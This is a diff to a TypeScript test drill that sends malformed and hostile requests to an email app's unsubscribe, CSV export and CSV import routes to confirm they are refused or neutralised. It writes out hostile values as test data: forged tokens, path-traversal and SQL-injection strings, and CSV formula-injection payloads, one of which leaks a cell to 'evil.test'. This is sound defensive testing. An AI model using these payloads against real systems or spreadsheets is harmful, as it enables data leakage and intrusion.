@@ -1,10 +1,12 @@
 /**
  * Drill 5 — hostile input. Generated malformed and hostile requests to the webhook route, the public
- * API and a cron route: truncated and deeply nested JSON, wrong types, huge strings, invalid UTF-8,
+ * API, a cron route, the unsubscribe route (/u/{token}), the dashboard's CSV export and both CSV imports
+ * (see publicAndDashboardCases): truncated and deeply nested JSON, wrong types, huge strings, invalid UTF-8,
  * header injection (raw bytes on a socket), missing, wrong and timing-probing secrets and API keys,
  * replayed payloads, oversized bodies (declared and streamed), slow bodies, wrong content types.
  * Promises: each gets its documented 4xx (replays: 200 and stored once); none gets a 5xx or crashes
- * the server (same process, healthy after); no stored message changes; every credential failure is
+ * the server (same process, healthy after); no stored message changes; no contact changes and none is
+ * created beyond the legitimate formula-injection imports; every credential failure is
  * recorded as a suspicious request. Credential failures come from many loopback addresses, fewer than
  * the abuse limit (20 a minute) each, so every one must be recorded rather than answered 429.
  */
@@ -12,7 +14,8 @@ import { randomBytes } from "node:crypto";
 import http from "node:http";
 import net from "node:net";
 import { sql } from "drizzle-orm";
-import { check, newResult, pool, request, seedAudience, sendCampaign, sleep, tag, waitForCampaign, webhookUrl, type DrillResult, type HttpAnswer, type Size } from "./support";
+import { createUnsubscribeToken } from "@/lib/sending/unsubscribe-token";
+import { adminSessionCookie, check, newResult, pool, request, seedAudience, sendCampaign, sleep, tag, waitForCampaign, webhookUrl, type DrillResult, type HttpAnswer, type Size } from "./support";
 import { percentile } from "../../../bench/support";
 import type { DrillSystem } from "./system";
 
@@ -106,6 +109,13 @@ export async function hostileInputDrill(sys: DrillSystem, size: Size): Promise<D
 
   // Real messages that hostile payloads name, so an accepted forgery would show as a changed message.
   const { listId } = await seedAudience(sys, run, 20);
+  // Recipients whose address and name a spreadsheet would run as formulas: the CSV export must not.
+  const formulaEmails = [`-2+${run}@drill.test`, `+1+${run}@drill.test`];
+  const seeded = await request(`${sys.baseUrl}/api/v1/contacts/import?list_id=${listId}`, {
+    headers: { "content-type": "text/csv", authorization: `Bearer ${sys.apiKey}` },
+    body: `email,name,city\n${formulaEmails.map((e) => `${e},"=HYPERLINK(""https://evil.test"",""x"")",@SUM(A1)`).join("\n")}\n`,
+  });
+  if (seeded.status !== 200) throw new Error(`importing the formula recipients failed: ${seeded.status} ${seeded.body.slice(0, 200)}`);
   const campaignId = await sendCampaign(sys, run, listId);
   await waitForCampaign(sys, campaignId, { timeoutMs: 120_000 });
   await sys.sandbox.flushWebhooks({ timeoutMs: 60_000 });
@@ -113,9 +123,17 @@ export async function hostileInputDrill(sys: DrillSystem, size: Size): Promise<D
   // Alert emails to the admins are messages too, and expected (credential failures raise alerts).
   const snapshot = async () => (await sys.db.execute<{ h: string; n: number }>(sql`select md5(coalesce(string_agg(m::text, ',' order by m.id), '')) as h, count(*)::int as n from messages m where tag is distinct from 'postline-alert'`)).rows[0];
   const contactsCount = async () => (await sys.db.execute<{ n: number }>(sql`select count(*)::int as n from contacts`)).rows[0].n;
+  // Every contact as stored (status, name, fields, lists), except those the formula-injection imports add.
+  const contactsSnapshot = async () =>
+    (
+      await sys.db.execute<{ h: string }>(sql`
+        select md5(coalesce(string_agg(c::text || coalesce((select string_agg(m.list_id::text, ',' order by m.list_id) from list_memberships m where m.contact_id = c.id), ''), ',' order by c.id), '')) as h
+        from contacts c where c.email not like ${`%+${run}-import-%`}`)
+    ).rows[0].h;
   const before = await snapshot();
   const t0 = Date.now();
   const contactsBefore = await contactsCount();
+  const contactsHashBefore = await contactsSnapshot();
   const pidBefore = sys.appPid();
 
   const W = webhookUrl(sys);
@@ -229,6 +247,8 @@ export async function hostileInputDrill(sys: DrillSystem, size: Size): Promise<D
     cred("cron bearer wrong", (ua, from) => request(api("/api/cron/dispatch"), { method: "GET", headers: { authorization: `Bearer ${sys.cronSecret.slice(0, -2)}`, "user-agent": ua }, from, fresh: true }));
     cred("cron bearer missing", (ua, from) => request(api("/api/cron/reconcile"), { method: "GET", headers: { "user-agent": ua }, from, fresh: true }));
   }
+  const formulaImports = await publicAndDashboardCases(sys, cases, { run, listId, campaignId, port, realMessageId: (await sys.db.execute<{ id: string }>(sql`select id from messages where campaign_id = ${campaignId} limit 1`)).rows[0].id });
+
   result.load = `${cases.length} requests (${cases.filter((c) => c.credential).length} credential failures from ${source + 1} sources)`;
 
   // Shuffled, a few at a time, as a scanner would send them.
@@ -261,7 +281,9 @@ export async function hostileInputDrill(sys: DrillSystem, size: Size): Promise<D
   // Nothing stored changed: the messages table is byte-for-byte the same; no contact was created.
   const after = await snapshot();
   check(result, after.h === before.h && after.n === before.n, "stored messages changed");
-  check(result, (await contactsCount()) === contactsBefore, "hostile API requests created contacts");
+  check(result, (await contactsCount()) === contactsBefore + formulaImports.created, `hostile requests created contacts (expected only the ${formulaImports.created} of the formula-injection imports)`);
+  check(result, (await contactsSnapshot()) === contactsHashBefore, "hostile requests changed stored contacts (a status, a name, a field or a list)");
+  for (const f of await formulaImports.verify()) check(result, false, f);
   const [{ stored }] = (await sys.db.execute<{ stored: number }>(sql`select count(*)::int as stored from message_events where postmark_message_id = ${`drill-replay-${run}`}`)).rows;
   check(result, stored === 1, `the replayed event is stored ${stored} times (expected once)`);
 
@@ -275,4 +297,113 @@ export async function hostileInputDrill(sys: DrillSystem, size: Size): Promise<D
   result.duplicated = Math.max(0, stored - 1);
   result.notes.push(`timing probes (right prefix length → median ms): ${[...probes].map(([k, ms]) => `${k} → ${percentile(ms, 50).toFixed(1)}`).join(", ")}`);
   return result;
+}
+
+/**
+ * The routes outside /api: the unsubscribe page and its one-click POST (anyone may call it), the
+ * dashboard's CSV export and import (a session), and the API's import. Adds their cases; returns how many
+ * contacts the legitimate formula-injection imports create, and a check of what they stored and of the
+ * export's neutralised formulas, run after the cases.
+ */
+async function publicAndDashboardCases(
+  sys: DrillSystem,
+  cases: Case[],
+  ctx: { run: string; listId: string; campaignId: string; port: number; realMessageId: string },
+): Promise<{ created: number; verify: () => Promise<string[]> }> {
+  const { run, listId, campaignId, port } = ctx;
+  const base = sys.baseUrl;
+  const get = (url: string, headers: Record<string, string> = {}) => request(url, { method: "GET", headers, fresh: true });
+  const post = (url: string, headers: Record<string, string>, body: string | Buffer) => request(url, { headers, body, fresh: true });
+  // A POST whose answer may come before the body is read: the refusal is the point, not the upload.
+  const refusedPost = (url: string, headers: Record<string, string>, body: Buffer) => post(url, headers, body).catch((e: Error) => ({ status: /EPIPE|ECONNRESET/.test(e.message) ? -1 : 0, ms: 0, body: e.message }));
+  const cookie = await adminSessionCookie(sys);
+
+  // /u/{token}: forged in every way; a real token's GET must change nothing (link scanners fetch it).
+  const real = createUnsubscribeToken(sys.sending.unsubscribeKey, ctx.realMessageId);
+  const otherKey = createUnsubscribeToken(randomBytes(32), ctx.realMessageId);
+  // The MAC's first character changed (its last one carries padding bits that decoding ignores).
+  const [idPart, macPart] = real.split(".");
+  const flipped = `${idPart}.${macPart[0] === "A" ? "B" : "A"}${macPart.slice(1)}`;
+  const forged = [`${randomBytes(16).toString("base64url")}.${randomBytes(16).toString("base64url")}`, flipped, otherKey, "x".repeat(4_000), "..%2F..%2Fapi%2Fhealth", "%3Cscript%3E", idPart, `${idPart}.${macPart}.x`];
+  for (const t of forged) {
+    cases.push({ kind: "/u forged token GET", send: () => get(`${base}/u/${t}`), expect: [404] });
+    cases.push({ kind: "/u forged token one-click", send: () => post(`${base}/u/${t}`, { "content-type": "application/x-www-form-urlencoded" }, "List-Unsubscribe=One-Click"), expect: [404] });
+  }
+  cases.push({ kind: "/u malformed percent-encoding", send: () => get(`${base}/u/%E0%A4%A`), expect: [400] });
+  cases.push({ kind: "/u NUL in the token", send: () => get(`${base}/u/%00`), expect: [400, 404] });
+  cases.push({ kind: "/u real token GET (must not unsubscribe)", send: () => get(`${base}/u/${real}`), expect: [200] });
+  for (const type of ["application/json", "text/plain", "multipart/form-data; boundary=x", "application/xml"]) {
+    cases.push({ kind: "/u forged token, wrong content type", send: () => post(`${base}/u/${forged[0]}`, { "content-type": type }, '{"List-Unsubscribe":"One-Click"}'), expect: [404, 415] });
+  }
+  cases.push({ kind: "/u forged token, oversized body", send: () => refusedPost(`${base}/u/${forged[1]}`, { "content-type": "application/x-www-form-urlencoded" }, Buffer.alloc(3 * 1024 * 1024, 0x61)), expect: [404, 413, -1] });
+  cases.push({ kind: "/u forged token, oversized chunked body", send: () => refusedPost(`${base}/u/${forged[2]}`, { "content-type": "application/x-www-form-urlencoded", "transfer-encoding": "chunked" }, Buffer.alloc(2 * 1024 * 1024, 0x61)), expect: [404, 413, -1] });
+  cases.push({ kind: "/u wrong method", send: () => request(`${base}/u/${forged[0]}`, { method: "DELETE", fresh: true }), expect: [405] });
+
+  // The CSV export: a session is required (401 from the route, or the proxy's redirect to /login).
+  const exportUrl = (id: string, query = "") => `${base}/campaigns/${id}/export${query}`;
+  cases.push({ kind: "export without a session", send: () => get(exportUrl(campaignId)), expect: [401, 307] });
+  cases.push({ kind: "export with a forged session", send: () => get(exportUrl(campaignId), { cookie: `next-auth.session-token=${randomBytes(40).toString("base64url")}` }), expect: [401, 307] });
+  for (const id of ["------------------------------------", "not-a-uuid", "0".repeat(5_000), "'%20or%201%3D1--", "00000000-0000-4000-8000-000000000000"]) {
+    cases.push({ kind: "export hostile id", send: () => get(exportUrl(id), { cookie }), expect: [404] });
+  }
+  for (const query of ["?filter=%3Cscript%3E&sort=-id%3Bdrop", `?q=${"%25".repeat(3_000)}`, "?after=%00%00&filter=all", "?sort=email&sort=-email"]) {
+    cases.push({ kind: "export hostile query", send: () => get(exportUrl(campaignId, query), { cookie }), expect: [200] });
+  }
+  cases.push({ kind: "export wrong method", send: () => post(exportUrl(campaignId), { cookie }, ""), expect: [405] });
+
+  // Both imports: refused whole (nothing written) with their documented 4xx; a formula-laden file is data.
+  const bad = (c: string) => Buffer.from(c);
+  const imports: { name: string; url: (q?: string) => string; auth: Record<string, string> }[] = [
+    { name: "dashboard import", url: (q = "") => `${base}/contacts/import${q}`, auth: { cookie } },
+    { name: "API import", url: (q = "") => `${base}/api/v1/contacts/import${q}`, auth: { authorization: `Bearer ${sys.apiKey}` } },
+  ];
+  const refusedEmail = (i: number) => `refused+${run}-${i}@drill.test`;
+  for (const [n, imp] of imports.entries()) {
+    const csv = { ...imp.auth, "content-type": "text/csv" };
+    const send = (kind: string, headers: Record<string, string>, body: Buffer, expect: number[], q = "") => cases.push({ kind: `${imp.name}: ${kind}`, send: () => refusedPost(imp.url(q), headers, body), expect });
+    send("wrong content type (JSON)", { ...imp.auth, "content-type": "application/json" }, bad(JSON.stringify([{ email: refusedEmail(n * 10 + 1) }])), [415]);
+    send("wrong content type (form)", { ...imp.auth, "content-type": "application/x-www-form-urlencoded" }, bad(`email\n${refusedEmail(n * 10 + 2)}\n`), [415]);
+    send("wrong content type (multipart)", { ...imp.auth, "content-type": "multipart/form-data; boundary=b" }, bad(`--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nemail\n${refusedEmail(n * 10 + 3)}\n--b--\r\n`), [415]);
+    send("no content type", imp.auth, bad(`email\n${refusedEmail(n * 10 + 4)}\n`), [415]);
+    send("non-UTF-8", csv, Buffer.concat([bad(`email,name\n${refusedEmail(n * 10 + 5)},`), Buffer.from([0xff, 0xfe, 0xc3, 0x28]), bad("\n")]), [422]);
+    send("Latin-1", csv, Buffer.from(`email,name\n${refusedEmail(n * 10 + 6)},Zoë Müller\n`, "latin1"), [422]);
+    send("missing header", csv, bad(`${refusedEmail(n * 10 + 7)},Name\n${refusedEmail(n * 10 + 8)},Other\n`), [422]);
+    send("empty", csv, Buffer.alloc(0), [422]);
+    send("NUL bytes", csv, Buffer.concat([bad(`email\n${refusedEmail(n * 10 + 9)}\n`), Buffer.alloc(64)]), [422]);
+    send("malformed list_id", csv, bad(`email\n${refusedEmail(n * 10 + 10)}\n`), [422], "?list_id=------------------------------------");
+    send("unknown list", csv, bad(`email\n${refusedEmail(n * 10 + 11)}\n`), [404], "?list_id=00000000-0000-4000-8000-000000000000");
+    cases.push({ kind: `${imp.name}: oversized (declared)`, send: () => raw(port, `POST ${new URL(imp.url()).pathname} HTTP/1.1\r\nHost: 127.0.0.1\r\n${Object.entries(csv).map(([k, v]) => `${k}: ${v}`).join("\r\n")}\r\nContent-Length: ${11 * 1024 * 1024}\r\n\r\nemail\n`), expect: [413] });
+    cases.push({ kind: `${imp.name}: oversized (streamed)`, send: () => streamed(imp.url(), { ...csv, "transfer-encoding": "chunked" }, 10 * 1024 * 1024), expect: [413] });
+    if (n === 0) cases.push({ kind: "dashboard import without a session", send: () => post(imp.url(), { "content-type": "text/csv" }, `email\n${refusedEmail(99)}\n`), expect: [401, 307] });
+  }
+
+  // Formula injection: a legitimate file whose values a spreadsheet would run. Stored as written
+  // (they are data; the export neutralises them), and answered 200.
+  const formula = (who: string) => [`-1+${run}-import-${who}@drill.test`, `+2+${run}-import-${who}@drill.test`];
+  const formulaName = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")';
+  const formulaCsv = (who: string) => `email,name,plan\n${formula(who).map((e) => `${e},"${formulaName.replace(/"/g, '""')}",=1+2`).join("\n")}\n`;
+  for (const [n, imp] of imports.entries()) {
+    const who = n === 0 ? "ui" : "api";
+    cases.push({ kind: `${imp.name}: formula injection`, send: () => post(imp.url(), { ...imp.auth, "content-type": "text/csv" }, formulaCsv(who)), expect: [200] });
+  }
+
+  return {
+    created: 4,
+    async verify() {
+      const failures: string[] = [];
+      const stored = (await sys.db.execute<{ email: string; name: string; fields: Record<string, string> }>(sql`select email, name, fields from contacts where email like ${`%+${run}-import-%`}`)).rows;
+      if (stored.length !== 4 || stored.some((c) => c.name !== formulaName || c.fields.plan !== "=1+2")) failures.push(`the formula-injection imports stored ${JSON.stringify(stored).slice(0, 300)} (expected 4 contacts, values as written)`);
+      const refused = (await sys.db.execute<{ n: number }>(sql`select count(*)::int as n from contacts where email like ${`refused+${run}-%`}`)).rows[0].n;
+      if (refused) failures.push(`${refused} contacts were stored from imports that were refused`);
+      const exported = await get(`${base}/campaigns/${campaignId}/export`, { cookie });
+      const lines = exported.body.split("\r\n").filter(Boolean);
+      if (exported.status !== 200 || !lines[0]?.startsWith("email,status,")) failures.push(`the export answered ${exported.status}: ${exported.body.slice(0, 120)}`);
+      // Every field that starts with = + - @ is quoted with a leading apostrophe; the recipients are all there.
+      const live = lines.slice(1).flatMap((l) => l.split(",")).filter((f) => /^"?[=+\-@]/.test(f));
+      if (live.length) failures.push(`the export has fields a spreadsheet would run: ${live.slice(0, 3).join(" ")}`);
+      for (const e of [`-2+${run}@drill.test`, `+1+${run}@drill.test`]) if (!lines.some((l) => l.startsWith(`'${e},`))) failures.push(`the export lacks the neutralised recipient '${e}`);
+      if (lines.length !== 1 + 22) failures.push(`the export has ${lines.length - 1} recipients (expected 22)`);
+      return failures;
+    },
+  };
 }
